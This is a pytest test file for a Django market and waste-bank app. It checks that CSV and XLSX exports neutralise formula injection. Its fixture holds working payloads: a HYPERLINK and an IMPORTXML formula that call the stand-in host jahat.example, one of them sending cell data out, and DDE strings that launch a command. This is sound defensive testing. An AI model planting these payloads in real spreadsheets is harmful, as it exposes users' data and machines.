"""Formula injection: every text cell of every CSV and XLSX export is neutralised.

A name that starts like a formula (=, +, -, @, tab, CR) must reach the
spreadsheet as text, whichever export it travels through and wherever it sits
(header row, first column, any cell).
"""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from unittest import mock

import pytest
from openpyxl import load_workbook

from banksampah.services import SaleLine, record_sale
from orders.services import mark_suborder_paid
from pasar.exports import FORMULA_PREFIXES, Sheet, csv_response, safe_cell, xlsx_bytes

from ..banksampah.conftest import deposit
from ..conftest import client_for
from ..factories import (
    CategoryFactory,
    MemberFactory,
    PosdayaFactory,
    ProductFactory,
    WasteCategoryFactory,
    WastePriceFactory,
)
from ..orders.conftest import make_order

pytestmark = pytest.mark.django_db

DAY = dt.date(2026, 11, 17)
HOSTILE = {
    "posdaya": '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
    "other_posdaya": "+SUM(1,2)",
    "product": "-2+3+cmd|' /C calc'!A0",
    "other_product": "@SUM(1+1)*cmd|' /C calc'!A0",
    "category": "\t=1+1",
    "waste_category": "\r=1+1",
    "member": '=IMPORTXML("http://jahat.example","//a")',
}
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def hostile_names(koordinator):
    """Sales, waste and members whose every name starts like a formula."""
    posdaya = PosdayaFactory(name=HOSTILE["posdaya"], slug="jahat", code="JHT")
    other = PosdayaFactory(name=HOSTILE["other_posdaya"], slug="jahat2", code="JH2")
    category = CategoryFactory(name=HOSTILE["category"], slug="jahat")
    product = ProductFactory(
        posdaya=posdaya, category=category, name=HOSTILE["product"], price=1000
    )
    other_product = ProductFactory(
        posdaya=other, category=category, name=HOSTILE["other_product"], price=2000
    )
    when = dt.datetime(2026, 11, 17, 10, tzinfo=dt.UTC)
    with mock.patch("django.utils.timezone.now", return_value=when):
        order = make_order({product: 1, other_product: 2}, payment="bayar_di_tempat")
        for suborder in order.suborders.all():
            mark_suborder_paid(suborder=suborder, by=None)
    waste = WasteCategoryFactory(name=HOSTILE["waste_category"], slug="jahat")
    WastePriceFactory(category=waste, buy_price=3000, sell_price=4000)
    member = MemberFactory(posdaya=posdaya, name=HOSTILE["member"], joined_on=DAY)
    deposit(member, (waste, "2"), on=DAY)
    record_sale(
        posdaya=posdaya,
        buyer_name="=Pak Udin",
        lines=[SaleLine(category=waste, weight=Decimal("1"))],
        by=None,
        sold_on=DAY,
    )
    return posdaya


def exports(koordinator):
    """Every export URL, fetched by the koordinator: {url: bytes}."""
    client = client_for(koordinator)
    induk = {"dari": "2026-11-16", "sampai": "2026-11-22"}
    branch = {"dari": "2026-11-16", "sampai": "2026-11-22"}
    urls = {
        "/dasbor/induk/ekspor/pendapatan.csv": induk,
        "/dasbor/induk/ekspor/pendapatan.xlsx": induk,
        "/dasbor/induk/ekspor/semua.csv": induk,
        "/dasbor/induk/ekspor/semua.xlsx": induk,
        "/dasbor/jahat/bank-sampah/laporan/csv/": branch,
        "/dasbor/jahat/bank-sampah/laporan/xlsx/": branch,
    }
    result = {}
    for url, query in urls.items():
        response = client.get(url, query)
        assert response.status_code == 200, url
        result[url] = response.content
    return result


def cells_of(url, content):
    """Return every non-empty cell of an export as (data_type, value)."""
    if url.rstrip("/").endswith("csv"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [("s", value) for row in rows for value in row if value != ""]
    workbook = load_workbook(io.BytesIO(content))
    return [
        (cell.data_type, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_every_cell_of_every_export_is_neutralised(hostile_names, koordinator):
    seen = set()
    for url, content in exports(koordinator).items():
        for data_type, value in cells_of(url, content):
            assert data_type != "f", (url, value)
            if isinstance(value, str):
                if value.startswith(FORMULA_PREFIXES):
                    assert NUMBER.fullmatch(value), (url, value)
                seen.update(key for key, name in HOSTILE.items() if value == "'" + name)
    # The hostile names did reach the exports, as text behind an apostrophe.
    assert seen == set(HOSTILE)


def test_branch_report_header_names_the_posdaya_as_text(hostile_names, koordinator):
    content = exports(koordinator)["/dasbor/jahat/bank-sampah/laporan/xlsx/"]
    header = load_workbook(io.BytesIO(content))["Ringkasan"]["B1"]
    assert (header.data_type, header.value) == ("s", "'" + HOSTILE["posdaya"])


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a fullwidth equals sign
        ("Tas Kopi", "Tas Kopi"),
        ("", ""),
        (-5000, -5000),
        (Decimal("-1.500"), Decimal("-1.500")),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_sheet_titles_and_columns_go_through_the_safe_writer():
    sheets = [Sheet("=Judul", ["=Kolom", "+B"], [["-C", 1], ["Tas\x01", 2]])]
    rows = list(
        csv.reader(io.StringIO(csv_response(sheets, "x").content.decode("utf-8-sig")))
    )
    assert rows == [["'=Judul"], ["'=Kolom", "'+B"], ["'-C", "1"], ["Tas\x01", "2"]]
    worksheet = load_workbook(io.BytesIO(xlsx_bytes(sheets))).active
    assert [(c.data_type, c.value) for c in worksheet[1]] == [
        ("s", "'=Kolom"),
        ("s", "'+B"),
    ]
    assert [(c.data_type, c.value) for c in worksheet[2]] == [("s", "'-C"), ("n", 1)]
    # A control character (which openpyxl refuses with an error) is dropped.
    assert [c.value for c in worksheet[3]] == ["Tas", 2]
